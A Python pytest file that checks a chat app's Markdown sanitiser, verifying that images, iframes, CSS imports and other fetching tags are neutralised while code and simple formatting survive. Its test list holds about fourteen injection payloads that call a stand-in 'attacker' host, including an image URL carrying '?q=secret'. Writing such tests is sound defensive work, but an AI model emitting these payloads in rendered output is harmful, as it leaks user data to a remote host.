"""Untrusted Markdown made inert before the chat renders it (issue 25, item 1): no image, no media, no tag that
fetches, whatever the model or an imported file wrote; code stays code."""

import pytest

from app.ui.markup import inert

FETCHING = [
    "![x](http://attacker/?q=secret)",
    '![x](http://attacker/a.png "title")',
    "![x][r]\n\n[r]: http://attacker/r.png",
    "<img src=http://attacker/i.png>",
    "<IMG SRC='http://attacker/i.png'>",
    '<video poster="http://attacker/p.png"></video>',
    '<span style="background:url(http://attacker/c.png)">x</span>',
    '<picture><source srcset="http://attacker/s.png"></picture>',
    "<svg><image href='http://attacker/v.png'/></svg>",
    "<iframe src='http://attacker/f'></iframe>",
    "<link rel=stylesheet href=http://attacker/s.css>",
    "<style>@import 'http://attacker/s.css'</style>",
    "``a <img src=http://attacker/odd.png> `b",  # no code span: the backtick runs differ
    "```\nunclosed fence <img src=http://attacker/u.png>",
]


@pytest.mark.parametrize("text", FETCHING)
def test_nothing_that_fetches_survives(text):
    out = inert(text)
    assert "![" not in out
    for tag in ("<img", "<video", "<span", "<source", "<image", "<iframe", "<link", "<style", "<picture", "<svg"):
        assert tag not in out.lower()


def test_images_become_links_and_formatting_and_code_stay():
    assert inert("see ![chart](http://h/c.png)") == "see [chart](http://h/c.png)"
    assert inert("<b>bold</b> and <br> and `a<b>`") == "<b>bold</b> and <br> and `a<b>`"
    fenced = "```html\n<img src=x>\n![a](b)\n```"
    assert inert(fenced + "\nthen <img src=y>") == fenced + "\nthen &lt;img src=y>"
    assert inert("<b class='x'>") == "&lt;b class='x'>"  # a plain tag with attributes is text too
